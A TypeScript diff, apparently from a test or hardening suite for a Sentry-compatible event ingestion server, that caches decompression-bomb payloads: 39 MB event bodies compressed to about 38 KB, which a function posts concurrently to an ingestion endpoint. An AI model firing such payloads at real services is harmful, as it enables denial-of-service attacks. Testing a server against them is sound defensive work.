@@ -1,4 +1,5 @@
 import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
+import { lazy } from '../../server/lazy.ts';
 
 const MEBIBYTE = 1024 * 1024;
 const DECOMPRESSED = 39 * MEBIBYTE;
@@ -20,14 +21,19 @@ const compressions = [
   { compress: zstdCompressSync, encoding: 'zstd' },
 ] as const;
 
+/** Compressed once: it takes seconds in which this process would not notice that the server has closed its idle connections. */
+const compressedBodies = lazy(() => {
+  const start = '{}\n{"type":"event"}\n{"message":"';
+  const plain = Buffer.concat([Buffer.from(start), Buffer.alloc(DECOMPRESSED, 'a')]);
+  return compressions.map(({ compress, encoding }) => ({ body: new Uint8Array(compress(plain)), encoding }));
+});
+
 /**
  * Posts that hold 39 MB in 38 KB or less each, sent all at once to an ingestion path. Returns how often each status was answered.
  */
 export async function sendCompressedBodies({ origin, projectId, key, requests }: CompressedAttack): Promise<Map<number, number>> {
-  const start = '{}\n{"type":"event"}\n{"message":"';
-  const plain = Buffer.concat([Buffer.from(start), Buffer.alloc(DECOMPRESSED, 'a')]);
-  const bodies = compressions.map(({ compress, encoding }) => ({
-    body: new Uint8Array(compress(plain)),
+  const bodies = compressedBodies().map(({ body, encoding }) => ({
+    body,
     headers: {
       ...(encoding === undefined ? {} : { 'Content-Encoding': encoding }),
       ...(key === undefined ? {} : { 'X-Sentry-Auth': `Sentry sentry_version=7, sentry_key=${key}` }),
